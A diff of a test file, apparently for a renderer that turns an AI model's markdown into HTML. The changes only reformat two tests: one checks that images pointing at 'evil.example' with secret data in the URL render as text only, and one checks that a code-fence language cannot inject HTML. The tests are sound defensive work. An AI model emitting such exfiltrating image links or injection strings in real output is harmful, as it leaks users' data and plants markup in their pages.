@@ -15,7 +15,9 @@ describe("a model's markdown", () => {
   });
 
   test("shows a picture's words and never its address", () => {
-    const html = markdownHtml("![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y");
+    const html = markdownHtml(
+      "![a secret](https://evil.example/?d=secret) and ![x][1]\n\n[1]: https://evil.example/y",
+    );
     expect(html).toContain("a secret");
     expect(html).not.toMatch(/img|evil/);
   });
@@ -52,7 +54,9 @@ describe("a model's markdown", () => {
   });
 
   test("the language of a code block cannot carry anything but a name", () => {
-    expect(markdownHtml('```py"><img src=x>\ncode\n```')).toContain('<pre data-language="py"><code>code');
+    expect(markdownHtml('```py"><img src=x>\ncode\n```')).toContain(
+      '<pre data-language="py"><code>code',
+    );
     expect(markdownHtml("```c++\n<b>\n```")).toContain('<pre data-language="c++"><code>&lt;b&gt;');
   });
 });
